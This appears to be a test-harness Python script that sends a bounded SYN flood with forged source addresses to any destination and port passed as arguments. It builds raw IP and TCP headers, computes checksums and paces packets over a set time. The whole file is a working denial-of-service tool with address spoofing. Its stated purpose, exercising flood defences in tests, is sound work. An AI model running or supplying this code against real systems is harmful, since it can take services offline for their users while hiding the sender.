"""A bounded SYN flood from spoofed sources, for the real-wire tests.

    syn_flood.py DST PORT SRC_PREFIX COUNT SECONDS

Sends COUNT SYNs (raw socket, IP_HDRINCL) to DST:PORT from random sources
SRC_PREFIX.10 to SRC_PREFIX.250 and random ports, spread evenly over SECONDS
(never longer). Prints "flooding" once a tenth are out, then one JSON line
with how many were sent. Needs root (CAP_NET_RAW)."""
import json, random, socket, struct, sys, time

dst, port, prefix, count, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, sport, seq):
    d = socket.inet_aton(dst)
    s = socket.inet_aton(src)
    opts = struct.pack("!BBH", 2, 4, 1460)  # MSS 1460
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = s + d + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
start = time.monotonic()
sent = 0
for i in range(count):
    src = "%s.%d" % (prefix, random.randint(10, 250))
    try:
        sock.sendto(syn(src, random.randint(1024, 65535), random.getrandbits(32)), (dst, 0))
        sent += 1
    except OSError:
        pass  # the device queue is full: that SYN is lost, as on a real link
    if i == count // 10:
        print("flooding", flush=True)
    ahead = start + seconds * (i + 1) / count - time.monotonic()
    if ahead > 0:
        time.sleep(ahead)
    if time.monotonic() - start > seconds + 1:
        break
print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}), flush=True)
